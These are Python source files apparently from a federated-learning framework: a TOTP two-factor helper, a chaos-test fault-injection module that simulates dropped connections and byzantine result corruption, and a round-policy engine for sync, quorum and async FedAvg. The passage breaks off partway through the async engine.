IDENTITY_CONTAINER = "container"  # algorithm-runtime identity
IDENTITY_REPLICA = "replica"      # server↔server event relay

# Event names pushed over the event channel (server → node / client).
EVENT_NEW_TASK = "new_task"
EVENT_KILL_TASK = "kill_task"
EVENT_STATUS_CHANGE = "algorithm_status_change"
EVENT_NODE_STATUS = "node-status-changed"
EVENT_MODEL_PUBLISHED = "model_published"  # registry: new global-model version
