"""TOTP (RFC 6238) two-factor codes — stdlib only.

Reference counterpart: pyotp-based 2FA in ``server/mail_service.py`` /
user resources (SURVEY.md §2.1 'mail & 2FA'). SHA-1, 30 s step, 6
digits — compatible with standard authenticator apps via the
``otpauth://`` provisioning URI.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import os
import struct
import time
import urllib.parse

STEP = 30
DIGITS = 6


def new_secret(nbytes: int = 20) -> str:
    return base64.b32encode(os.urandom(nbytes)).decode("ascii").rstrip("=")


def _code_at(secret: str, counter: int) -> str:
    pad = "=" * (-len(secret) % 8)
    key = base64.b32decode(secret + pad, casefold=True)
    msg = struct.pack(">Q", counter)
    digest = hmac.new(key, msg, hashlib.sha1).digest()
    offset = digest[-1] & 0x0F
    code = struct.unpack(">I", digest[offset:offset + 4])[0] & 0x7FFFFFFF
    return str(code % (10 ** DIGITS)).zfill(DIGITS)


def totp_now(secret: str, at: float | None = None) -> str:
    return _code_at(secret, int((at or time.time()) // STEP))


def verify(secret: str, code: str, at: float | None = None,
           window: int = 1) -> bool:
    """Accept codes within ±window time-steps of now."""
    now = int((at or time.time()) // STEP)
    code = (code or "").strip()
    return any(
        hmac.compare_digest(_code_at(secret, now + off), code)
        for off in range(-window, window + 1)
    )


def provisioning_uri(secret: str, username: str,
                     issuer: str = "vantage6-trn") -> str:
    label = urllib.parse.quote(f"{issuer}:{username}")
    return (
        f"otpauth://totp/{label}?secret={secret}"
        f"&issuer={urllib.parse.quote(issuer)}&digits={DIGITS}&period={STEP}"
    )
