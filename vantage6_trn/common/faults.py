"""Fault-injection plan for chaos tests (and manual drills).

A :class:`FaultPlan` is an ordered list of rules, each matching requests
by side (``server`` dispatch vs ``client`` transport), HTTP method and a
path regex, firing a bounded number of times:

=========  ==============================================================
action     effect
=========  ==============================================================
``delay``  sleep ``delay_s`` before handling (server) / sending (client)
``error``  server replies ``status`` (default 500) without running the
           handler; client-side it raises the same as a received 5xx
           cannot be simulated, so it raises :class:`ConnectionError`
``drop``   server reads the request then never responds (connection
           closed without a status line); client-side the request is
           never sent — both surface as ``ConnectionError`` to callers
``reset``  like ``drop`` but the server closes with TCP RST (SO_LINGER
           zero) — exercises the mid-flight connection-reset path
``ws-drop``  refuse the WebSocket upgrade before the 101 handshake so
           consumers exercise their long-poll fallback
``corrupt``  byzantine node: mutate a completed run's result payload
           before upload (``mode=nan`` NaN-fill, ``mode=scale`` ×
           ``factor`` norm inflation, ``mode=bitflip`` ``flips`` random
           bit flips) — client-side only, matched against the task name
           via the ``corrupt_result`` hook in the node daemon
``partition``  bidirectional drop: the rule is side-agnostic, firing as
           a ``drop`` on BOTH the server dispatch hook and the client
           transport hook, so traffic dies in both directions and a
           matched process pair behaves like a split federation (the
           chaos conductor's network-partition cell). ``METHOD`` is
           usually the ``*`` wildcard
=========  ==============================================================

Install programmatically (tests)::

    faults.install(faults.FaultPlan([
        faults.FaultRule("POST", r"/api/task$", "error", count=2,
                         status=503, retry_after=0.2),
        faults.FaultRule("GET", r"/api/event", "drop", count=1,
                         side="client"),
    ]))
    ...
    faults.clear()

or via the environment (picked up at first use)::

    V6_FAULT_PLAN="error POST /api/task x2 status=503; drop GET /api/event"

Entries are ``;``-separated: ``<action> <METHOD> <path-regex> [xN]
[key=value ...]`` with keys ``status``, ``delay``, ``retry_after``,
``side``, ``mode``, ``factor``, ``flips`` and ``seed``. ``xN`` bounds
how many times the rule fires (default 1; ``x*`` = unlimited). The
hooks in ``server/http.py`` and the client transports check a module
flag first, so the disabled path costs one attribute read per request.

A byzantine node is injectable like any other fault::

    V6_FAULT_PLAN="corrupt RESULT mlp-partial-fit x1 mode=nan side=client"

and so is a network partition (all methods, both directions, until
cleared)::

    V6_FAULT_PLAN="partition * /api/ x*"
"""

from __future__ import annotations

import logging
import re
import threading
import time

log = logging.getLogger(__name__)

UNLIMITED = -1

CORRUPT_MODES = ("nan", "scale", "bitflip")

#: transport-level actions ``client_fault`` may fire; ``corrupt``
#: deliberately excluded — a corrupt rule mutates a result payload in
#: the daemon hook and must never surface as a ConnectionError
CLIENT_TRANSPORT_ACTIONS = ("delay", "error", "drop", "reset",
                            "partition")


class FaultRule:
    def __init__(self, method: str, pattern: str, action: str,
                 count: int = 1, status: int = 500,
                 delay_s: float = 0.0, retry_after: float | None = None,
                 side: str = "server", mode: str = "nan",
                 factor: float = 1e6, flips: int = 64, seed: int = 0):
        if action not in ("delay", "error", "drop", "reset", "ws-drop",
                          "corrupt", "partition"):
            raise ValueError(f"unknown fault action {action!r}")
        if side not in ("server", "client"):
            raise ValueError(f"unknown fault side {side!r}")
        if action == "corrupt":
            if side != "client":
                raise ValueError(
                    "corrupt faults are client-side only (the node "
                    "daemon mutates its own result before upload)"
                )
            if mode not in CORRUPT_MODES:
                raise ValueError(
                    f"corrupt mode must be one of {CORRUPT_MODES}, "
                    f"got {mode!r}"
                )
        self.method = method.upper()
        self.pattern = re.compile(pattern)
        self.action = action
        self.count = count
        self.status = status
        self.delay_s = delay_s
        self.retry_after = retry_after
        self.side = side
        self.mode = mode
        self.factor = factor
        self.flips = flips
        self.seed = seed

    def __repr__(self):
        return (f"FaultRule({self.action} {self.method} "
                f"{self.pattern.pattern} x{self.count})")


class FaultPlan:
    """Thread-safe matcher; each successful match consumes one firing
    of the first still-armed rule."""

    def __init__(self, rules: list[FaultRule]):
        self.rules = list(rules)
        self._lock = threading.Lock()
        self.fired: list[str] = []  # audit trail for test assertions

    def match(self, side: str, method: str, path: str,
              actions: tuple[str, ...] | None = None) -> FaultRule | None:
        with self._lock:
            for rule in self.rules:
                # partition rules are side-agnostic by design: the same
                # rule drops the request on whichever side sees it, so
                # both directions of a matched pair die
                if rule.action != "partition" and rule.side != side:
                    continue
                if rule.count == 0:
                    continue
                if actions is not None and rule.action not in actions:
                    continue
                if rule.method not in ("*", method.upper()):
                    continue
                if not rule.pattern.search(path):
                    continue
                if rule.count != UNLIMITED:
                    rule.count -= 1
                self.fired.append(f"{rule.action} {method} {path}")
                return rule
        return None

    def remaining(self) -> int:
        """Armed firings left (unlimited rules count as 0 here)."""
        with self._lock:
            return sum(r.count for r in self.rules if r.count > 0)


def parse_plan(spec: str) -> FaultPlan:
    """Parse the ``V6_FAULT_PLAN`` compact syntax (module docstring)."""
    rules = []
    for entry in spec.split(";"):
        entry = entry.strip()
        if not entry:
            continue
        tokens = entry.split()
        if len(tokens) < 3:
            raise ValueError(f"fault entry too short: {entry!r}")
        action, method, pattern = tokens[0], tokens[1], tokens[2]
        if action == "500":
            action = "error"
        kw: dict = {}
        for tok in tokens[3:]:
            if tok == "x*":
                kw["count"] = UNLIMITED
            elif tok.startswith("x") and tok[1:].isdigit():
                kw["count"] = int(tok[1:])
            elif "=" in tok:
                key, _, val = tok.partition("=")
                if key == "status":
                    kw["status"] = int(val)
                elif key == "delay":
                    kw["delay_s"] = float(val)
                elif key == "retry_after":
                    kw["retry_after"] = float(val)
                elif key == "side":
                    kw["side"] = val
                elif key == "mode":
                    kw["mode"] = val
                elif key == "factor":
                    kw["factor"] = float(val)
                elif key == "flips":
                    kw["flips"] = int(val)
                elif key == "seed":
                    kw["seed"] = int(val)
                else:
                    raise ValueError(f"unknown fault option {key!r}")
            else:
                raise ValueError(f"cannot parse fault token {tok!r}")
        if action == "corrupt":
            kw.setdefault("side", "client")
        rules.append(FaultRule(method, pattern, action, **kw))
    return FaultPlan(rules)


#: Active plan, or None (the common case — hooks check this first).
ACTIVE: FaultPlan | None = None
_ENV_CHECKED = False


def install(plan: FaultPlan) -> FaultPlan:
    global ACTIVE, _ENV_CHECKED
    ACTIVE = plan
    _ENV_CHECKED = True  # explicit install wins over the env
    log.info("fault plan installed: %s", plan.rules)
    return plan


def clear() -> None:
    global ACTIVE, _ENV_CHECKED
    ACTIVE = None
    _ENV_CHECKED = True


def _active() -> FaultPlan | None:
    global ACTIVE, _ENV_CHECKED
    if not _ENV_CHECKED:
        _ENV_CHECKED = True
        import os

        spec = os.environ.get("V6_FAULT_PLAN")
        if spec:
            try:
                ACTIVE = parse_plan(spec)
                log.warning("V6_FAULT_PLAN active: %s", ACTIVE.rules)
            except ValueError as e:
                log.error("ignoring invalid V6_FAULT_PLAN: %s", e)
    return ACTIVE


def _count_fault(side: str, action: str) -> None:
    from vantage6_trn.common import telemetry

    telemetry.REGISTRY.counter(
        "v6_faults_injected_total", "chaos faults fired from V6_FAULT_PLAN"
    ).inc(side=side, action=action)
    telemetry.flight("fault_injected", side=side, action=action)


def server_fault(method: str, path: str,
                 actions: tuple[str, ...] | None = None) -> FaultRule | None:
    """Match+consume a server-side rule; ``delay`` sleeps here, every
    other action is carried out by the HTTP layer (it owns the socket).
    ``actions`` restricts which rule kinds may fire (the ws upgrade
    path only honors ``ws-drop``; plain dispatch everything else)."""
    plan = _active()
    if plan is None:
        return None
    rule = plan.match("server", method, path, actions=actions)
    if rule is None:
        return None
    log.warning("injecting server fault %s on %s %s",
                rule.action, method, path)
    _count_fault("server", rule.action)
    if rule.action == "delay":
        time.sleep(rule.delay_s)
        return None  # then proceed normally
    return rule


def client_fault(method: str, url: str) -> None:
    """Client-transport hook: raise ConnectionError (drop/reset/error)
    or sleep (delay) before the real request is attempted. Matching is
    restricted to transport actions so a ``corrupt`` rule (consumed by
    ``corrupt_result`` in the daemon) can never fire here as a bogus
    connection failure."""
    plan = _active()
    if plan is None:
        return
    rule = plan.match("client", method, url,
                      actions=CLIENT_TRANSPORT_ACTIONS)
    if rule is None:
        return
    log.warning("injecting client fault %s on %s %s",
                rule.action, method, url)
    _count_fault("client", rule.action)
    if rule.action == "delay":
        time.sleep(rule.delay_s)
        return
    # drop / reset / error / partition: the request never happens
    raise ConnectionError(
        f"injected {rule.action} fault on {method} {url}"
    )


def _corrupt_array(a, rule: FaultRule):
    """One corrupted copy of ``a`` per ``rule.mode``. Float arrays
    NaN-fill / scale; integer arrays (e.g. masked uint64 frames) get
    the all-ones byte fill / wrapping multiply instead — every mode
    must corrupt every dtype the worker contract ships."""
    import numpy as np

    out = np.array(a, copy=True)
    if out.size == 0:
        return out
    if rule.mode == "nan":
        if out.dtype.kind == "f":
            out[...] = np.nan
        else:
            out.view(np.uint8)[...] = 0xFF
    elif rule.mode == "scale":
        if out.dtype.kind == "f":
            out *= out.dtype.type(rule.factor)
        else:
            with np.errstate(over="ignore"):
                out *= out.dtype.type(int(rule.factor))
    else:  # bitflip
        rng = np.random.default_rng(rule.seed)
        view = out.view(np.uint8).reshape(-1)
        idx = rng.integers(0, view.size,
                           size=min(int(rule.flips), view.size))
        bits = rng.integers(0, 8, size=idx.size)
        view[idx] ^= (np.uint8(1) << bits.astype(np.uint8))
    return out


def _corrupt_tree(obj, rule: FaultRule):
    """Deep-copy ``obj`` with every ndarray leaf corrupted (dict/list
    recursion mirrors the worker result contract; scalars pass
    through untouched)."""
    import numpy as np

    if isinstance(obj, dict):
        return {k: _corrupt_tree(v, rule) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return type(obj)(_corrupt_tree(v, rule) for v in obj)
    if isinstance(obj, np.ndarray):
        return _corrupt_array(obj, rule)
    return obj


def corrupt_result(label: str, result):
    """Node-daemon hook: byzantine-mutate a completed run's result
    payload before serialization/upload. ``label`` is the task name the
    rule's path regex matches against (method slot: ``RESULT``).
    Returns ``(result, fired)`` — when fired, the caller must ship the
    corrupted object (and bypass any pre-corruption streamed upload)."""
    plan = _active()
    if plan is None or result is None:
        return result, False
    rule = plan.match("client", "RESULT", label, actions=("corrupt",))
    if rule is None:
        return result, False
    log.warning("injecting byzantine corruption (%s) into result of %s",
                rule.mode, label)
    _count_fault("client", "corrupt")
    return _corrupt_tree(result, rule), True
