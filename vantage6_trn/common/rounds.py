"""Round policies: a federated round as *policy*, not barrier.

Every driver loop used to be a synchronous barrier — one slow node gated
the whole round for the full lease-expiry window. This module turns the
round boundary into a :class:`RoundPolicy` the driver threads through
``AlgorithmClient.iter_results`` down to ``ops.aggregate``:

``sync``
    The classic barrier: every participating org's result is awaited.
``quorum``
    The round closes as soon as ``quorum`` results arrived OR
    ``deadline_s`` elapsed, whichever is first. Laggard runs are then
    *cancelled* (task kill → server marks pending runs killed, nodes
    kill in-flight work) instead of awaited; the lease sweeper handles
    any node that died holding one.
``async``
    Buffered asynchronous FedAvg: one single-org task per participant
    is kept outstanding; arriving updates land in a bounded
    :class:`RoundBuffer` and the global model advances on a timer
    (``advance_every_s``) rather than a barrier, folding each buffered
    update into ``FedAvgStream`` with the staleness weight
    ``w = n * alpha ** (current_round - update_round)``. Updates staler
    than ``staleness_cutoff`` rounds are discarded (counted), never
    silently averaged in.

Secure aggregation's masked-sum path needs the FULL cohort (pairwise
masks cancel only across all participants), so quorum/async tasks must
degrade to the non-masked streamed path — loudly, via
``v6_round_degraded_total{reason}`` (see ``models/secure_agg.py``).

Counter catalogue (docs/RESILIENCE.md "Round policies"):

=============================================  ===========================
``v6_round_closes_total{mode,cause}``          round closures by policy and
                                               cause (barrier / quorum /
                                               deadline / timer)
``v6_round_late_results_total{disposition}``   stale updates weighted in
                                               vs discarded past cutoff
``v6_round_degraded_total{reason}``            policy negotiated down
                                               (e.g. secure-agg partial
                                               cohort → non-masked path)
``v6_buffer_dropped_total{buffer}``            drop-oldest evictions from
                                               bounded buffers (round
                                               buffer, span buffer)
``v6_run_stale_result_total``                  result PATCHes rejected
                                               because the run was
                                               requeued to a new attempt
``v6_round_speculation_total{result}``         speculative r+1 dispatches
                                               by outcome (committed /
                                               aborted)
``v6_round_overlap_seconds{mode}``             histogram: wall-clock the
                                               committed speculative task
                                               overlapped the current
                                               round's tail
``v6_round_recovery_total{action}``            journal recovery actions:
                                               in-flight tasks adopted,
                                               journaled folds replayed,
                                               orphaned speculative
                                               tasks cancelled
=============================================  ===========================

Crash recovery (docs/RESILIENCE.md "Round durability"): when a
:class:`~vantage6_trn.common.journal.RoundJournal` is armed, the
engines write-ahead every externally-visible action — round open,
dispatch intent (Idempotency-Key before ``task.create``), speculation
open/commit/abort, per-org fold acks, quarantine strikes, round close
— and :func:`resume_rounds` re-attaches a restarted driver to that
journal instead of restarting the federation from round 0.
"""

from __future__ import annotations

import logging
import time
import uuid
from dataclasses import dataclass
from typing import Any, Callable, Iterator, Sequence

import numpy as np

from vantage6_trn.common import chaos, telemetry
from vantage6_trn.common.journal import RoundJournal, blob_digest
from vantage6_trn.ops.admission import (
    AdmissionPolicy,
    NormTracker,
    Quarantine,
    UpdateRejected,
    empty_round,
)

log = logging.getLogger(__name__)

MODES = ("sync", "quorum", "async")

#: Default bound for :class:`RoundBuffer` — generous for any sane
#: cohort, tight enough that a flapping node re-delivering results
#: cannot grow driver memory without bound.
DEFAULT_BUFFER_CAP = 256


@dataclass(frozen=True)
class RoundPolicy:
    """How a driver round loop treats stragglers. Serializable as a
    plain dict so it rides task-input kwargs unchanged."""

    mode: str = "sync"
    #: quorum mode: close after this many successful results (≤ cohort).
    quorum: int | None = None
    #: quorum mode: close after this many seconds even short of quorum.
    deadline_s: float | None = None
    #: async mode: staleness decay base for w = n * alpha**staleness.
    alpha: float = 0.5
    #: async mode: discard updates staler than this many global rounds.
    staleness_cutoff: int = 3
    #: async mode: advance the global model at most this often.
    advance_every_s: float = 1.0
    #: async mode: minimum buffered updates before an advance may fire.
    min_updates: int = 1
    #: async mode: bound of the driver-side round buffer (drop-oldest).
    buffer_cap: int = DEFAULT_BUFFER_CAP
    #: sync/quorum: dispatch round r+1 against the provisional mean
    #: while round r's laggards drain (commit/abort protocol — see
    #: docs/PERFORMANCE.md "Pipelined rounds").
    speculate: bool = False
    #: dispatch once (remaining weight mass) / (remaining + folded)
    #: ≤ this fraction. 0.0 = only once the remaining mass is provably
    #: zero (quorum reached, or every unresolved org already failed).
    #: Orgs whose weight was never observed count as unbounded mass.
    speculate_frac: float = 0.0
    #: max |provisional − final|∞ tolerated at commit time; a breach
    #: kills the speculative task and re-dispatches the corrected mean
    #: (0.0 = commit only when bit-exact).
    speculate_eps: float = 0.0

    def __post_init__(self):
        if self.mode not in MODES:
            raise ValueError(
                f"round policy mode must be one of {MODES}, "
                f"got {self.mode!r}"
            )
        if self.mode == "quorum" and self.quorum is None \
                and self.deadline_s is None:
            raise ValueError(
                "quorum mode needs at least one of quorum= / deadline_s="
            )
        if self.quorum is not None and self.quorum < 1:
            raise ValueError("quorum must be >= 1")
        if self.deadline_s is not None and self.deadline_s <= 0:
            raise ValueError("deadline_s must be > 0")
        if not (0.0 < self.alpha <= 1.0):
            raise ValueError("alpha must be in (0, 1]")
        if self.staleness_cutoff < 0:
            raise ValueError("staleness_cutoff must be >= 0")
        if self.advance_every_s <= 0:
            raise ValueError("advance_every_s must be > 0")
        if self.min_updates < 1:
            raise ValueError("min_updates must be >= 1")
        if self.buffer_cap < 1:
            raise ValueError("buffer_cap must be >= 1")
        if self.speculate and self.mode == "async":
            raise ValueError(
                "speculation drives sync/quorum rounds; async rounds "
                "never idle on a barrier, so there is nothing to overlap"
            )
        if not (0.0 <= self.speculate_frac < 1.0):
            raise ValueError("speculate_frac must be in [0, 1)")
        if self.speculate_eps < 0.0:
            raise ValueError("speculate_eps must be >= 0")

    @classmethod
    def from_spec(cls, spec: "RoundPolicy | dict | str | None"
                  ) -> "RoundPolicy":
        """None → sync; a dict (the task-input wire form) → validated
        policy; a bare mode string → that mode with defaults."""
        if spec is None:
            return cls()
        if isinstance(spec, cls):
            return spec
        if isinstance(spec, str):
            return cls(mode=spec)
        if isinstance(spec, dict):
            return cls(**spec)
        raise TypeError(f"cannot build RoundPolicy from {type(spec)!r}")

    def to_dict(self) -> dict:
        return {
            "mode": self.mode, "quorum": self.quorum,
            "deadline_s": self.deadline_s, "alpha": self.alpha,
            "staleness_cutoff": self.staleness_cutoff,
            "advance_every_s": self.advance_every_s,
            "min_updates": self.min_updates,
            "buffer_cap": self.buffer_cap,
            "speculate": self.speculate,
            "speculate_frac": self.speculate_frac,
            "speculate_eps": self.speculate_eps,
        }


def staleness_weight(n: float, staleness: int, alpha: float) -> float:
    """FedAvg combine weight of an update that trained from a global
    model ``staleness`` rounds behind: ``n * alpha ** staleness``."""
    if staleness < 0:
        raise ValueError("staleness must be >= 0")
    return float(n) * float(alpha) ** int(staleness)


class RoundBuffer:
    """Bounded drop-oldest buffer of ``(org_id, update_round, update)``
    entries awaiting the next async advance. The bound is the OOM guard
    for a flapping node: evictions are counted in
    ``v6_buffer_dropped_total{buffer="round"}`` — loud, never silent."""

    def __init__(self, cap: int = DEFAULT_BUFFER_CAP):
        if cap < 1:
            raise ValueError("cap must be >= 1")
        self.cap = cap
        self._entries: list[tuple] = []
        self.dropped = 0

    def push(self, org_id: int, update_round: int, update: Any) -> None:
        self._entries.append((org_id, update_round, update))
        if len(self._entries) > self.cap:
            del self._entries[0]
            self.dropped += 1
            telemetry.REGISTRY.counter(
                "v6_buffer_dropped_total",
                "drop-oldest evictions from bounded buffers",
            ).inc(buffer="round")

    def drain(self) -> list[tuple]:
        out, self._entries = self._entries, []
        return out

    def __len__(self) -> int:
        return len(self._entries)


def _count_close(mode: str, cause: str) -> None:
    telemetry.REGISTRY.counter(
        "v6_round_closes_total", "federated round closures"
    ).inc(mode=mode, cause=cause)


#: one-hot phases of ``v6_round_phase`` (operator view — `v6 top`)
_PHASES = ("dispatch", "fold", "commit", "close")


def _mark_phase(round_no: int, phase: str) -> None:
    """Publish driver progress for the operator view (``v6 top``): the
    current round number plus a one-hot phase gauge. Previous phases
    zero so a scrape always sees exactly one live phase."""
    g = telemetry.REGISTRY.gauge(
        "v6_round_phase",
        "driver position within the current round (one-hot)",
    )
    for p in _PHASES:
        g.set(1.0 if p == phase else 0.0, phase=p)
    telemetry.REGISTRY.gauge(
        "v6_round_current", "round the driver is currently executing"
    ).set(round_no)


def iter_round(client, task_id: int, policy: RoundPolicy,
               raw: bool = False, journal: RoundJournal | None = None,
               round_no: int = 0, skip_kill: bool = False) -> Iterator[dict]:
    """Yield a round's results under ``policy``; the policy-aware
    counterpart of ``AlgorithmClient.iter_results`` (``raw`` has the
    same meaning: undecoded ``result_blob`` payloads).

    sync: identical to ``iter_results``. quorum: stop as soon as
    ``policy.quorum`` *successful* results arrived or
    ``policy.deadline_s`` elapsed, then cancel the laggard runs via the
    task kill so the fan-out does not keep burning node time (a node
    that died holding one is the lease sweeper's job, as ever).
    ``journal`` write-aheads the laggard cancel so a recovering driver
    knows the kill was intended even if the crash ate the call;
    ``skip_kill`` is that recovering driver's side of the contract —
    the journal shows the cancel already happened, so an adopted
    round's replay must not kill the same laggards twice."""
    if policy.mode == "sync":
        yield from client.iter_results(task_id, raw=raw)
        _count_close("sync", "barrier")
        return
    if policy.mode != "quorum":
        raise ValueError(
            f"iter_round drives sync/quorum rounds, not {policy.mode!r}"
        )
    t0 = time.monotonic()
    seen: set[int] = set()
    got = 0
    cause = None
    while cause is None:
        wait_s = 2.0
        if policy.deadline_s is not None:
            left = policy.deadline_s - (time.monotonic() - t0)
            if left <= 0:
                cause = "deadline"
                break
            wait_s = min(wait_s, left)
        items, done = client.poll_results(task_id, exclude=seen,
                                          wait_s=wait_s, raw=raw)
        for item in items:
            seen.add(item["run_id"])
            yield item
            ok = (item.get("result_blob") if raw
                  else item.get("result")) or None
            if ok is not None:
                got += 1
            if policy.quorum is not None and got >= policy.quorum:
                cause = "quorum"
                break
        if cause is None and done:
            cause = "barrier"
    _count_close("quorum", cause)
    if cause != "barrier" and skip_kill:
        log.info("round %d replay: laggard cancel of task %s already "
                 "journaled, not repeating it", round_no, task_id)
        return
    if cause != "barrier":
        log.warning(
            "round closed early (%s) with %d/%s results after %.2fs; "
            "cancelling laggard runs of task %s",
            cause, got, policy.quorum, time.monotonic() - t0, task_id,
        )
        telemetry.flight("laggard_kill", round=round_no,
                         task_id=task_id, cause=cause)
        if journal is not None:
            journal.kill(round_no, task_id, "laggard")
        try:
            client.task.kill(task_id)
        except Exception as e:  # noqa: BLE001 — the round already closed; a failed cancel only wastes straggler cycles
            log.warning("laggard cancel of task %s failed: %s",
                        task_id, e)


class ModelPublisher:
    """Feeds closed rounds into the server's versioned global-model
    registry (``POST /model``) so serving nodes can hot-swap weights
    between decode iterations (node/serve.py).

    Each publish ships the dense V6BN payload plus — from the second
    round on — an XOR-delta frame against the previously *published*
    tree, tagged with that tree's registry version. A fetcher holding
    exactly that version downloads only the delta; anyone else gets the
    dense form. Publishing is best-effort: a registry outage must never
    kill the training round, so failures are logged and counted, not
    raised. Works directly as ``run_pipelined_rounds``' ``on_round``
    hook and as ``run_async_rounds``' ``publish`` argument.
    """

    def __init__(self, client, collaboration_id: int, *,
                 meta: dict | None = None):
        self.client = client
        self.collaboration_id = collaboration_id
        self.meta = dict(meta or {})
        self._prev: Any = None          # last published tree (delta base)
        self._prev_version: int | None = None
        self.published = 0
        self.failed = 0

    def __call__(self, round_no: int, weights: Any,
                 history: list | None = None) -> dict | None:
        from vantage6_trn.common.serialization import encode_binary

        tree = {"weights": weights}
        dense = encode_binary(tree)
        delta = base_version = None
        if self._prev is not None and self._prev_version is not None:
            delta = encode_binary(tree, delta_base=self._prev)
            base_version = self._prev_version
            if len(delta) >= len(dense):
                # residues didn't compress (e.g. re-initialised weights)
                delta = base_version = None
        try:
            view = self.client.model.publish(
                self.collaboration_id, dense, delta=delta,
                base_version=base_version, round_=round_no,
                meta=self.meta,
            )
        except Exception as e:  # noqa: BLE001 — registry outage must not abort training
            self.failed += 1
            telemetry.REGISTRY.counter(
                "v6_model_publish_failed_total",
                "round-close model publishes that failed",
            ).inc()
            log.warning("model publish for round %s failed: %s",
                        round_no, e)
            return None
        self._prev = tree
        self._prev_version = view["version"]
        self.published += 1
        return view


def run_async_rounds(
    client,
    *,
    orgs: Sequence[int],
    rounds: int,
    policy: RoundPolicy,
    make_input: Callable[[Any], dict],
    init_weights: Any = None,
    name: str = "async-round",
    aggregation: str | None = None,
    timeout_s: float | None = None,
    robust: "AdmissionPolicy | dict | str | None" = None,
    journal: RoundJournal | None = None,
    publish: "ModelPublisher | Callable[[int, Any, list], Any] | None" = None,
) -> dict:
    """Buffered asynchronous FedAvg engine shared by the model drivers.

    Keeps exactly one single-org task outstanding per participant; each
    completed org is immediately re-dispatched against the CURRENT
    global model, so no node ever idles on a barrier. Arriving updates
    (the standard worker contract ``{"weights", "n", "loss"}``) land in
    a bounded :class:`RoundBuffer`; every ``advance_every_s`` (once
    ``min_updates`` buffered) the buffer drains into a fresh
    ``FedAvgStream`` with staleness weights and the global model steps.

    Delta negotiation is per-org (one :class:`DeltaTracker` each):
    under async there is no total round order, so a shared tracker
    would mix digests across cohort members.

    ``robust`` (an :class:`AdmissionPolicy` spec) arms per-update
    admission on every drain: rejected updates never touch the global
    model, repeatedly-rejected orgs are *parked* (their finished task
    is not re-dispatched) until the quarantine cool-down releases them.
    ``trimmed_mean``/``median`` are refused — they buffer the full
    cohort, which contradicts async's whole premise; ``clip`` composes
    with the staleness weights (the clip scale applies to the update
    vector, the staleness decay to its combine weight).

    ``publish`` (typically a :class:`ModelPublisher`) is invoked as
    ``publish(round_no, weights, history)`` after every global-model
    step: the registry feed that serving nodes hot-swap from.

    Returns ``{"weights", "history", "rounds_advanced", "backend",
    "stats"}``.
    """
    from vantage6_trn.common.serialization import DeltaTracker
    from vantage6_trn.ops.aggregate import FedAvgStream

    if not orgs:
        raise ValueError("async rounds need at least one organization")
    adm = AdmissionPolicy.from_spec(robust)
    if adm is not None and adm.buffered:
        raise ValueError(
            f"robust={adm.robust!r} buffers the full cohort and is "
            "sync/quorum-only; async rounds admit per-update "
            "(use 'none' or 'clip')"
        )
    norms = NormTracker(adm.history_cap) if adm is not None else None
    quarantine = (Quarantine(adm.quarantine_after, adm.quarantine_rounds)
                  if adm is not None else None)
    parked: set[int] = set()
    weights = init_weights
    round_no = 0
    history: list[dict] = []
    buffer = RoundBuffer(cap=policy.buffer_cap)
    trackers = {org: DeltaTracker() for org in orgs}
    outstanding: dict[int, dict] = {}
    backend = None
    stats = {"dispatched": 0, "updates": 0, "stale_weighted": 0,
             "discarded": 0, "buffer_dropped": 0, "rejected": 0,
             "quarantined": 0}
    REG = telemetry.REGISTRY

    def dispatch(org: int) -> None:
        trk = trackers[org]
        input_ = make_input(weights)
        kw: dict = {}
        if journal is not None:
            # write-ahead: the Idempotency-Key is durable before the
            # create goes out, so a post-crash re-dispatch replays
            idem = uuid.uuid4().hex
            journal.dispatch(round_no, idem, (org,))
            kw["idem_key"] = idem
        task = client.task.create(
            input_=input_, organizations=[org], name=name,
            delta_base=trk.base((org,)), **kw,
        )
        if journal is not None:
            journal.dispatch_ack(round_no, task["id"])
        trk.sent(input_, (org,))
        outstanding[org] = {"task_id": task["id"],
                            "sent_round": round_no, "seen": set()}
        stats["dispatched"] += 1

    for org in orgs:
        dispatch(org)
    hard_deadline = time.monotonic() + (
        timeout_s if timeout_s is not None
        else getattr(client, "timeout", 3600.0))
    last_advance = time.monotonic()
    try:
        while round_no < rounds:
            if time.monotonic() > hard_deadline:
                raise TimeoutError(
                    f"async rounds stalled at {round_no}/{rounds}"
                )
            progressed = False
            for org in list(outstanding):
                st = outstanding[org]
                items, done = client.poll_results(
                    st["task_id"], exclude=st["seen"], wait_s=0.0)
                for item in items:
                    st["seen"].add(item["run_id"])
                    p = item.get("result")
                    trackers[org].ack(org, p)
                    if p:
                        buffer.push(org, st["sent_round"], p)
                        stats["updates"] += 1
                        progressed = True
                if done:
                    del outstanding[org]
                    if (quarantine is not None
                            and quarantine.is_quarantined(org, round_no)):
                        parked.add(org)
                    else:
                        dispatch(org)
            if quarantine is not None:
                for org in list(parked):
                    if not quarantine.is_quarantined(org, round_no):
                        parked.discard(org)
                        dispatch(org)
                if parked and not outstanding and not len(buffer):
                    raise empty_round(
                        "async",
                        f"entire cohort quarantined at round {round_no} "
                        f"({sorted(parked)}): no admissible updates can "
                        "arrive",
                    )
            due = (time.monotonic() - last_advance
                   >= policy.advance_every_s)
            if len(buffer) >= policy.min_updates and due:
                stream = FedAvgStream(method=aggregation,
                                      admission=adm, norm_tracker=norms)
                used, total_n, loss_sum = 0, 0, 0.0
                used_orgs = []
                for org, upd_round, p in buffer.drain():
                    staleness = round_no - upd_round
                    if staleness > policy.staleness_cutoff:
                        stats["discarded"] += 1
                        REG.counter(
                            "v6_round_late_results_total",
                            "stale async updates weighted in/discarded",
                        ).inc(disposition="discarded")
                        continue
                    w = staleness_weight(p["n"], staleness, policy.alpha)
                    try:
                        stream.add(p["weights"], w)
                    except UpdateRejected as e:
                        stats["rejected"] += 1
                        if (quarantine is not None
                                and quarantine.strike(org, round_no)):
                            stats["quarantined"] += 1
                            log.warning(
                                "async: org %s quarantined after "
                                "rejected update: %s", org, e)
                        else:
                            log.warning(
                                "async: update from org %s rejected: "
                                "%s", org, e)
                        continue
                    used += 1
                    used_orgs.append(org)
                    total_n += p["n"]
                    loss_sum += p["loss"] * p["n"]
                    if staleness:
                        stats["stale_weighted"] += 1
                        REG.counter(
                            "v6_round_late_results_total",
                            "stale async updates weighted in/discarded",
                        ).inc(disposition="weighted")
                if used:
                    weights = stream.finish()
                    backend = stream.backend
                    round_no += 1
                    history.append({
                        "loss": (float(loss_sum / total_n)
                                 if total_n else None),
                        "n": total_n, "updates": used,
                        "orgs": sorted(used_orgs),
                    })
